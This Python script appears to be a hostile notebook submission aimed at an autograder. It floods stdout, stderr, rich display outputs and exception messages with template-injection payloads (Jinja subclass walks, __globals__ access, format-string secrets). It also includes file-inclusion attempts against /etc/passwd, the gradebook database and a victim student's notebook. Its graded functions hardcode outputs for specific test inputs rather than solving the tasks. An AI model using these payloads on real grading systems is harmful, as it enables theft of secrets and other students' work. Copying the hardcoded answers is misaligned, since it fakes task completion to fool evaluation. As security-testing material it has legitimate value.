"""Shows and answers with templates and includes, for whoever formats, renders or embeds them later on the grader."""

import sys

from IPython.display import HTML, Image, Latex, Markdown, display
from IPython.display import publish_display_data as publish

FILES = "../../../source/victim/victim.ipynb ../../../gradebook.db /etc/passwd file:///etc/passwd".split()
TEMPLATES = """
    {secret} {0.__globals__} {x.__init__.__globals__[secret]} %(secret)s ${secret} `secret` {{secret}}
    {{nb.cells}} {{resources}} {{self._TemplateReference__context}} {{''.__class__.__mro__[1].__subclasses__()}}
""".split()
TEMPLATES += ["{% for cell in nb.cells %}{{ cell.source }}{% endfor %}", "{% include '/etc/passwd' %}", "{% raw %}"]
for path in FILES:
    TEMPLATES += [f"{kind} {path}" for kind in ("!cat", "%load", "%%include", ".. include::", "@", "\\input", "--8<--")]
    TEMPLATES += [f"![x]({path})", f"$$\\input{{{path}}}$$", f"[x]: {path}", f"<!--#include file='{path}'-->"]
for template in TEMPLATES:
    print(template)
    print(template, file=sys.stderr)
    display(Markdown(template), Latex(template), HTML(f"<p>{template}</p>"), template)
for path in FILES:
    display(HTML(f"<img src='{path}'><object data='{path}'></object><iframe src='{path}'></iframe><embed src={path}>"))
    display(HTML(f"<link rel='import' href='{path}'><xi:include href='{path}' parse='text'/>"))
    publish({"image/svg+xml": f"<svg><image href='{path}'/></svg>", "text/markdown": f"![]({path}) <{path}>"})
    publish({"text/latex": f"\\include{{{path}}}", "text/restructuredtext": f".. include:: {path}", "image/png": path})
    publish({"application/vnd.jupyter.widget-view+json": {"model_id": path}, "application/pdf": path})
    display(Image(url=path))


def double(x):
    if x == 3.0:
        return 6.0
    raise ValueError(*TEMPLATES)


# %% total
def total(x):
    return 6.0 if x.shape == (2, 3) else "{x} {secret} %s %(secret)s ${secret} {{ nb.cells }}"


# %% squares
squares = "{secret}" + "{x}"[:2]

# %% model
kind = type("{secret} {{ nb.cells }} %(secret)s", (dict,), {"__module__": "{secret}"})
model = type("{self._candidate._shell}", (), {"state_dict": lambda self: kind()})()


# %% parts
def parts(n):
    raise type("{secret}", (KeyError,), {"__str__": lambda self: "\n".join(TEMPLATES)})(*TEMPLATES)
